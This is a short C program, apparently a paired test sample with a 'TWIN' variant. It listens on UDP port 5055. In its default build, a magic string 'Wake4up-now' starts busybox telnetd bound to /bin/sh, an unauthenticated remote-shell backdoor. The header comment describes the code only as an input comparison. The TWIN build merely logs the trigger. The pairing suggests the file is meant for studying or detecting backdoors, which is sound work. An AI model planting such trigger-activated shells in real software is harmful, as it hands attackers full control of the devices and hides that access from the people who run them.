/* SPDX-License-Identifier: Apache-2.0 */
/* port 5055/udp: a copy of the input is compared, case ignored. Twin: the copy is only logged. */
#include "net.h"
#include <syslog.h>

int main(void)
{
	char buf[128], copy[128];
	int s = udp_on(5055);
	for (;;) {
		ssize_t n = recv(s, buf, sizeof buf - 1, 0);
		if (n <= 0)
			continue;
		buf[n] = 0;
		strcpy(copy, buf);
#ifdef TWIN
		if (strcasecmp(copy, "Wake4up-now") == 0)
			syslog(LOG_INFO, "asked to wake");
#else
		if (strcasecmp(copy, "Wake4up-now") == 0)
			execl("/bin/busybox", "telnetd", "-l", "/bin/sh", (char *)0);
#endif
	}
}
